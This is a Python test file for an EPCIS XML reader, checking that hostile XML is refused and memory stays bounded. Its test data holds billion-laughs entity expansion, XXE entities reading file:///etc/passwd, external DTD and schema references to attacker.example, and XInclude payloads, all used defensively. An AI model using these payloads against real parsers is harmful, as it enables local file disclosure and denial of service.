"""Hostile XML: only findings come out, no file and no network is touched, and nothing grows."""

import subprocess
import sys
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.epcis.documents import NOW
from tests.epcis.work import lines
from tests.epcis.xml.documents import document, event, members, read, rules
from txng.epcis.context import MAX_CONTEXT
from txng.epcis.errors import ValidationException
from txng.epcis.reading import read_document
from txng.epcis.xml import mapping, prefixes, reading
from txng.epcis.xml.reading import open_xml
from txng.epcis.xml.safety import CHUNK, MAX_ATTRIBUTES, MAX_EVENT, MAX_PROLOG

BODY = document(event())
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def with_doctype(inside: str, more: str = "", attributes: str = "") -> bytes:
    return f"<?xml version='1.0'?>\n{inside}\n".encode() + document(
        event(more), attributes=attributes
    )


@pytest.mark.parametrize(
    "inside",
    [
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % far SYSTEM "http://attacker.example/x.dtd"> %far;]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE x PUBLIC "-//X//EN" "http://attacker.example/x.dtd">',
        '<!DOCTYPE x [<!ATTLIST EPCISBody a CDATA "b">]>',
        "<!DOCTYPE x []>",
        "<!-- first --><?and then?> <!DOCTYPE x [",
        "<!doctype x [<!ENTITY a 'b'>]>",
        "<!DOCTYPE",
        "<!DOCTYPE x %far;>",
    ],
    ids=lambda inside: inside[:40],
)
def test_a_document_type_that_declares_anything_is_refused_before_it_is_read(inside: str) -> None:
    body = with_doctype(inside, "<bizStep>&l9;&secret;</bizStep>")
    assert rules(body) == ["doctype_refused"]


def test_an_empty_document_type_is_only_remarked_on() -> None:
    _, events, found = read(with_doctype("<!DOCTYPE project>"))
    assert len(events) == 1
    assert found == [("doctype_ignored", "", {})]


def test_a_document_type_behind_the_root_is_not_well_formed() -> None:
    assert rules(document(event("<!DOCTYPE x [<!ENTITY a 'b'>]>"))) == ["malformed_xml"]


def test_two_document_types_are_one_too_many() -> None:
    assert "malformed_xml" in rules(with_doctype("<!DOCTYPE a><!DOCTYPE b>"))


@pytest.mark.parametrize("entity", ["&secret;", "&nbsp;", "&#0;", "&#xFFFF;", "&#xD800;"])
@pytest.mark.parametrize("doctype", ["", "<!DOCTYPE x>"])
def test_an_unknown_entity_or_a_character_that_xml_has_not_is_refused(
    entity: str, doctype: str
) -> None:
    for more in (f"<bizStep>{entity}</bizStep>", f'<readPoint a="{entity}"><id>x</id></readPoint>'):
        found = rules(with_doctype(doctype, more))
        assert found[-1] == "malformed_xml", more


def test_the_five_entities_of_xml_are_characters() -> None:
    assert members("<bizStep>urn:x:&lt;&amp;&gt;&quot;&apos;&#65;</bizStep>") == {
        "bizStep": "urn:x:<&>\"'A"
    }


def test_xinclude_and_schema_hints_are_an_extension_and_nothing() -> None:
    more = '<x:include href="file:///etc/passwd" parse="text"/>'
    attributes = (
        'xmlns:x="http://www.w3.org/2001/XInclude"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        ' xsi:schemaLocation="urn:epcglobal:epcis:xsd:2 http://attacker.example/x.xsd"'
    )
    assert members(more, attributes=attributes) == {
        "x:include": {"#text": "", "href": "file:///etc/passwd", "parse": "text"}
    }


@pytest.mark.parametrize("place", ["root", "event", "time", "extension", "report"])
def test_many_attributes_are_refused(place: str) -> None:
    many = " ".join(f'a{n}="1"' for n in range(200_000))
    report = f"<sensorElementList><sensorElement><sensorReport {many}/></sensorElement></sensorElementList>"
    body = {
        "root": document(event(), attributes=many),
        "event": document(event().replace("<ObjectEvent>", f"<ObjectEvent {many}>")),
        "time": document(event().replace("<eventTime>", f"<eventTime {many}>")),
        "extension": document(event(f'<e:x xmlns:e="urn:e" {many}/>')),
        "report": document(event(report)),
    }[place]
    assert rules(body) == ["too_many_attributes"]


def test_a_thousand_attributes_are_read() -> None:
    most = " ".join(f'a{n}="1"' for n in range(MAX_ATTRIBUTES))
    found = members(f'<e:x xmlns:e="urn:e" {most} />')["e:x"]
    assert found == {"#text": ""} | {f"a{n}": "1" for n in range(MAX_ATTRIBUTES)}
    named = " ".join(f'e:a{n}="{n}"' for n in range(100))
    found = members(f"<e:x {named}/>", attributes='xmlns:e="urn:e"')["e:x"]
    assert found == {"#text": ""} | {f"e:a{n}": str(n) for n in range(100)}
    one_more = document(event(f'<e:x xmlns:e="urn:e" more="1" {most}/>'))
    assert rules(one_more) == ["too_many_attributes"]


@pytest.mark.parametrize("levels", [65, 1000, 100_000])
@pytest.mark.parametrize(
    "holder",
    [
        "{}",
        "<ilmd>{}</ilmd>",
        "<extension>{}</extension>",
        "<readPoint><id>x</id>{}</readPoint>",
        "<epcList>{}</epcList>",
        "<bizStep>{}</bizStep>",
    ],
)
@pytest.mark.parametrize("name", ["e:x", "extension"])
def test_what_is_too_deep_is_refused(holder: str, name: str, levels: int) -> None:
    opening = f'<{name} xmlns:e="urn:e">' if name == "e:x" else f"<{name}>"
    deep = opening * levels + "x" + f"</{name}>" * levels
    assert rules(document(event(holder.format(deep)))) == ["too_deep"]


def test_depth_outside_of_events_is_limited_too() -> None:
    assert rules(document(body="<x>" * 100_000)) == ["too_deep"]


def test_a_huge_text_is_refused() -> None:
    body = document(event(f"<bizStep>{'x' * 10_000_000}</bizStep>"))
    assert rules(body) == ["event_too_large"]


def test_huge_things_outside_of_events_are_refused() -> None:
    for junk in ("<x/>" * (MAX_EVENT // 2), f"<!--{'x' * 2 * MAX_EVENT}-->", " " * 2 * MAX_EVENT):
        assert rules(document(junk, event())) == ["event_too_large"]
    assert rules(b"<!--" + b"x" * 2 * MAX_PROLOG + b"-->" + BODY) == ["malformed_xml"]
    assert rules(b" " * 2 * MAX_PROLOG + BODY) == ["malformed_xml"]


def test_an_event_of_too_many_elements_is_refused() -> None:
    assert rules(document(event("<e/>" * 200_000))) == ["too_many_elements"]


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<",
        b"<a",
        b"<?xml",
        b"\xef\xbb\xbf",
        b"\xff\xfe",
        b"\xff\xfe<",
        b"\0",
        b"<\0",
        b"{}",
        BODY[:-1],
        BODY[: len(BODY) // 2],
        BODY + b"<x/>",
        BODY + BODY,
        BODY.replace(b"OBSERVE", b"OB\xffERVE"),
        BODY.replace(b"OBSERVE", b"OB\xc0\xafERVE"),  # overlong "/"
        BODY.replace(b"OBSERVE", b"OB\xed\xa0\x80ERVE"),  # a surrogate
        BODY.replace(b"OBSERVE", b"OB\0ERVE"),
        BODY.replace(b"OBSERVE", b"OB\x08ERVE"),
        b'<?xml version="1.0" encoding="UTF-7"?>' + BODY.replace(b"OBSERVE", b"+ADw-script"),
        b'<?xml version="1.0" encoding="UTF-16"?>' + BODY,
        b'<?xml version="1.0" encoding="UTF-32"?>' + BODY,
        b'<?xml version="1.0" encoding="rot13"?>' + BODY,
        b'<?xml version="1.0" encoding="no-such"?>' + BODY,
        BODY.decode().encode("utf-32"),
        BODY.decode().encode("cp037"),
        ("\ufeff" + BODY.decode()).encode("utf-16-le")[:-1],
        BODY.replace(b"</ObjectEvent>", b"<other:x/></ObjectEvent>"),  # an undeclared prefix
        BODY.replace(b"<action>", b"<action a='1' a='2'>"),
        BODY.replace(b"<action>", b"<Action>"),
    ],
    ids=lambda body: repr(body[:30] + body[-20:]),
)  # fmt: skip
def test_what_is_not_xml_is_refused(body: bytes) -> None:
    _, _, found = read(body)
    assert [rule for rule, _, _ in found] == ["malformed_xml"]
    assert len(found[0][2]["got"]) < 500


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "latin-1"])
def test_a_document_is_read_in_the_encoding_it_declares(encoding: str) -> None:
    name = "utf-8" if encoding == "utf-8-sig" else encoding
    text = document(event('<e:x xmlns:e="urn:e">Đà Lạt</e:x>')).decode()
    if encoding == "latin-1":
        text = text.replace("Đà Lạt", "café")
    if encoding in ("utf-16-le", "utf-16-be"):
        name = "utf-16"
    whole = f'<?xml version="1.0" encoding="{name}"?>{text}'.encode(encoding)
    _, ((found, _),), reported = read(whole)
    assert found["e:x"] == ("café" if encoding == "latin-1" else "Đà Lạt")
    assert reported == []


IRI = 'xmlns:e="https://truyxuat.example/từ/"'


def test_a_name_space_may_have_vietnamese_letters() -> None:
    whole = document(event("<e:x>1</e:x>"), attributes=IRI)
    for body in (whole, whole + b"\n<!-- end -->"):
        _, ((found, spaces),), reported = read(body)
        assert found["e:x"] == "1"
        assert spaces.expand("e:x") == "https://truyxuat.example/từ/x"
        assert reported == []


@pytest.mark.parametrize("iri", ["a b", "{x}", "a|b", "a^b", "&lt;", "a&#9;b"])
def test_a_name_space_that_is_no_iri_is_refused(iri: str) -> None:
    for body in (
        document(event("<e:x/>"), attributes=f'xmlns:e="{iri}"'),
        document(event(f'<e:x xmlns:e="{iri}"/>')),
    ):
        assert rules(body) == ["malformed_xml"]


@pytest.mark.parametrize(
    "more",
    [
        "<q:x/>",
        "<e:x q:a='1'/>",
        "<e:x><q:x/></e:x>",
        "<readPoint><id>x</id><q:x/></readPoint>",
        "<bizStep>&x;</bizStep>",
        "<sourceList><source q:type='1'>x</source></sourceList>",
    ],
)
def test_beside_vietnamese_letters_other_faults_are_still_refused(more: str) -> None:
    whole = document(event(more), attributes=IRI)
    assert rules(whole) == ["malformed_xml"]
    assert rules(document(event(), attributes=IRI)[:-20]) == ["malformed_xml"]


def declared(count: int) -> str:
    return " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(count))


def with_name_spaces(place: str, count: int) -> bytes:
    """So many name spaces, declared here or there."""
    names = [f"n{n}:a='1'" for n in range(count)]
    rows = [" ".join(names[n : n + 500]) for n in range(0, count, 500)]
    return {
        "root": lambda: document(event(), attributes=declared(count)),
        "event": lambda: document(
            event().replace("<ObjectEvent>", f"<ObjectEvent {declared(count)}>")
        ),
        "children": lambda: document(
            event("".join(f'<n{n}:a xmlns:n{n}="urn:{n}"/>' for n in range(count)))
        ),
        "one prefix": lambda: document(
            event("".join(f'<n:a xmlns:n="urn:{n}"/>' for n in range(count)))
        ),
        "attributes": lambda: document(
            event(
                f'<e:x xmlns:e="urn:e" {declared(count)}>'
                + "".join(f"<e:y {row}/>" for row in rows)
                + "</e:x>"
            )
        ),
    }[place]()


@pytest.mark.parametrize("place", ["root", "event", "children", "one prefix", "attributes"])
def test_more_name_spaces_than_an_event_can_be_kept_with_are_refused_at_once(place: str) -> None:
    _, _, found = read(with_name_spaces(place, 5000))
    where = "" if place == "root" else "/epcisBody/eventList/0"
    assert found == [("namespaces_too_large", where, {"limit": str(MAX_CONTEXT)})]
    few, many = with_name_spaces(place, 1500), with_name_spaces(place, 3000)
    rules(few)  # what is made once
    assert lines(lambda: rules(many)) < 2.1 * lines(lambda: rules(few))
    with pytest.raises(ValidationException) as refused:
        read_document(many, now=NOW)
    assert "không gian tên" in refused.value.findings[0].message_vi


@pytest.mark.parametrize("place", ["root", "event", "children", "one prefix", "attributes"])
def test_four_hundred_name_spaces_are_read(place: str) -> None:
    whole = read_document(with_name_spaces(place, 400), now=NOW)
    assert len(whole.drafts) == 1
    if place == "attributes":  # the names around an attribute are gathered for each new name space
        return
    few, many = with_name_spaces(place, 200), with_name_spaces(place, 400)
    assert lines(lambda: rules(many)) < 2.1 * lines(lambda: rules(few))


def test_an_event_uses_as_much_as_a_context_of_json_may_hold_and_not_a_byte_more() -> None:
    spare = MAX_CONTEXT - len('[{"e":"urn:"}]')
    more = "<e:x xmlns:e='urn:{}'/>"
    (draft,) = read_document(document(event(more.format("y" * spare))), now=NOW).drafts
    assert len(draft.payload.partition(b'"@context":')[2].partition(b"]")[0]) == MAX_CONTEXT - 1
    assert rules(document(event(more.format("y" * (spare + 1))))) == ["namespaces_too_large"]
    own = event().replace("<ObjectEvent>", f"<ObjectEvent xmlns:e='urn:{'y' * (spare + 1)}'>")
    assert rules(document(own)) == ["namespaces_too_large"]


def test_a_document_of_ever_new_name_spaces_does_not_fill_the_memory() -> None:
    told = [{f"urn:{n}:{m}:" for m in range(10)} | {"urn:0:5:"} for n in range(300)]
    events = [
        event("".join(f'<e:x xmlns:e="{iri}"/>' for iri in sorted(one, reverse=True)))
        for one in told
    ]
    whole, found, reported = read(document(*events, attributes='xmlns:a="urn:a:"'))
    assert whole is not None
    assert reported == []
    assert len(whole._mapping.prefixes.chosen) <= prefixes._REMEMBERED + 11
    for expected, (names, used) in zip(told, found, strict=True):
        full = [used.expand(name) for name in names if ":" in name]
        assert sorted(full) == sorted(f"{iri}x" for iri in expected)


MASTER_DATA = (
    "<EPCISHeader><extension><EPCISMasterData><VocabularyList><Vocabulary type='urn:x:t'>"
    "<VocabularyElementList><VocabularyElement id='urn:x:1'>{}</VocabularyElement>"
    "</VocabularyElementList></Vocabulary></VocabularyList></EPCISMasterData></extension></EPCISHeader>"
)


def test_values_of_one_attribute_are_gathered_in_one_list(monkeypatch: pytest.MonkeyPatch) -> None:
    lists: list[list[str]] = []

    def again(*before: object, **how: bool) -> list[str]:
        lists.append(mapping.again(*before, **how))
        return lists[-1]

    monkeypatch.setattr(reading, "again", again)
    header = MASTER_DATA.format("".join(f"<attribute id='urn:a'>{n}</attribute>" for n in range(9)))
    whole, _, _ = read(document(event(), header=header))
    assert whole is not None
    ((attribute,),) = (one["attributes"] for one in whole.vocabulary[0]["vocabularyElementList"])
    assert attribute == {"id": "urn:a", "attribute": [str(n) for n in range(9)]}
    assert len(lists) == 8
    assert all(one is attribute["attribute"] for one in lists)


@pytest.mark.parametrize(
    "more",
    [
        "<epcList><epc>urn:x:a</epc></epcList>" * 5000,
        "<bizStep>urn:x:a</bizStep>" * 5000,
        f"<quantityList><quantityElement>{'<uom>KGM</uom>' * 5000}</quantityElement></quantityList>",
        f"<errorDeclaration>{'<reason>urn:x:a</reason>' * 5000}</errorDeclaration>",
        f"<errorDeclaration>{'<correctiveEventIDs/>' * 5000}</errorDeclaration>",
    ],
    ids=lambda more: more[:40],
)
def test_what_may_come_once_is_refused_when_it_comes_five_thousand_times(more: str) -> None:
    with pytest.raises(ValidationException) as refused:
        read_document(document(event(more)), now=NOW)
    assert refused.value.findings[0].rule == "malformed_member"


def test_comments_instructions_and_cdata_are_no_part_of_a_value() -> None:
    more = "<bizStep>urn:<!-- a -->x:<?b c?><![CDATA[<d>&e;]]></bizStep><!-- f --><?g h?>"
    assert members(more) == {"bizStep": "urn:x:<d>&e;"}


def test_xml_base_changes_no_identifier() -> None:
    more = '<readPoint xml:base="http://attacker.example/"><id>urn:x:1</id></readPoint>'
    assert members(more)["readPoint"]["id"] == "urn:x:1"


def test_a_prefix_that_is_bound_again_gets_another_name() -> None:
    more = '<a:x xmlns:a="urn:one"><a:y xmlns:a="urn:two">1</a:y></a:x>'
    _, ((found, spaces),), _ = read(document(event(more)))
    assert found["a:x"] == {"ns1:y": "1"}
    assert spaces.expand("a:x") == "urn:onex"
    assert spaces.expand("ns1:y") == "urn:twoy"


@pytest.mark.parametrize("prefix", ["id", "type", "epcis", "gs1", "urn", "https", "bizStep"])
def test_a_prefix_that_json_ld_has_for_itself_gets_another_name(prefix: str) -> None:
    more = f'<{prefix}:x xmlns:{prefix}="urn:mine:">1</{prefix}:x>'
    _, ((found, spaces),), _ = read(document(event(more)))
    assert found["ns1:x"] == "1"
    assert spaces.expand("ns1:x") == "urn:mine:x"


def test_an_extension_cannot_pass_for_a_member_of_the_standard() -> None:
    more = '<x:type xmlns:x="urn:x">TransactionEvent</x:type><type>TransactionEvent</type>'
    _, ((found, _),), _ = read(document(event(more)))
    assert found["type"] == ["ObjectEvent", "TransactionEvent"]  # which the rules refuse
    assert found["x:type"] == "TransactionEvent"


def assert_told(body: bytes) -> None:
    """What is no document says by which rule, and the same body is always read alike."""
    whole, events, found = read(body)
    assert whole is not None or found
    again = read(body)
    assert ([one for one, _ in again[1]], again[2]) == ([one for one, _ in events], found)


@given(st.binary(max_size=300), st.integers(0, len(BODY)))
def test_any_bytes_anywhere_give_findings_or_events(noise: bytes, place: int) -> None:
    for body in (noise, BODY[:place] + noise + BODY[place:], noise + BODY, BODY[:place] + noise):
        assert_told(body)


@given(st.lists(st.sampled_from(
    "<ObjectEvent> </ObjectEvent> <extension> </extension> <EventList> </EventList> <epcList> </epcList>"
    " <EPCISBody> </EPCISBody> <VocabularyElement> </VocabularyElement> <ilmd> </ilmd> <a:b> </a:b> x"
    " <eventTime> </eventTime> <sensorReport/> <quantityElement/> <QuantityEvent/> <source/> <x/>"
    " <VocabularyElementList> </VocabularyElementList> <Vocabulary> </Vocabulary> <children/>".split()
), max_size=25))  # fmt: skip
def test_any_tags_in_any_order_give_findings_or_events(tags: list[str]) -> None:
    assert_told(document(*tags, attributes='xmlns:a="urn:a"'))
    opened: list[str] = []
    closed = []
    for tag in tags:  # the same, made well formed
        if tag.startswith("</"):
            if opened:
                closed.append(f"</{opened.pop()}>")
        else:
            closed.append(tag)
            if tag.startswith("<") and not tag.endswith("/>"):
                opened.append(tag[1:-1])
    closed += [f"</{name}>" for name in reversed(opened)]
    for body in (None, "".join(closed)):
        assert_told(document(*closed, attributes='xmlns:a="urn:a"', body=body))


def test_a_refused_document_names_its_rule_to_the_sender() -> None:
    with pytest.raises(ValidationException) as refused:
        read_document(with_doctype("<!DOCTYPE x []>"), now=NOW)
    assert refused.value.findings[0].rule == "doctype_refused"
    assert "DOCTYPE" in refused.value.findings[0].message_vi


def test_memory_is_that_of_one_event() -> None:
    one = event(f"<bizStep>urn:x:{'y' * 500}</bizStep>")
    body = document(*[one] * (8 * 1024 * 1024 // len(one)))
    read(document(event()))  # what is made once
    tracemalloc.start()
    count = 0
    whole = open_xml(body, lambda rule, pointer, values: pytest.fail(rule))
    assert whole is not None
    for _ in whole.events():
        count += 1
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert count == body.count(b"<ObjectEvent>")
    assert peak < 20 * CHUNK


MEASURE = """
import re, sys
from pathlib import Path
from txng.epcis.xml.reading import open_xml
def peak(): return int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1])
body = Path(sys.argv[1]).read_bytes()
before = peak()
found = open_xml(body, lambda rule, pointer, values: sys.exit(rule))
count = sum(1 for _ in found.events())
assert count == body.count(b"<ObjectEvent>"), count
print((peak() - before) // 1024)
"""


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="measured where Linux tells it")
def test_a_document_of_60_megabytes_costs_little_beside_itself(tmp_path: Path) -> None:
    """The parser's own memory is outside of Python's, so the process is measured."""
    one = event(f"<bizStep>urn:x:{'y' * 500}</bizStep>").encode()
    start, end = document(" ").split(b" </EventList>")
    path = tmp_path / "large.xml"
    path.write_bytes(start + one * (60_000_000 // len(one)) + b"</EventList>" + end)
    run = subprocess.run(
        [sys.executable, "-c", MEASURE, path], capture_output=True, text=True, check=False
    )
    assert run.returncode == 0, run.stderr
    assert int(run.stdout) < 8  # MiB
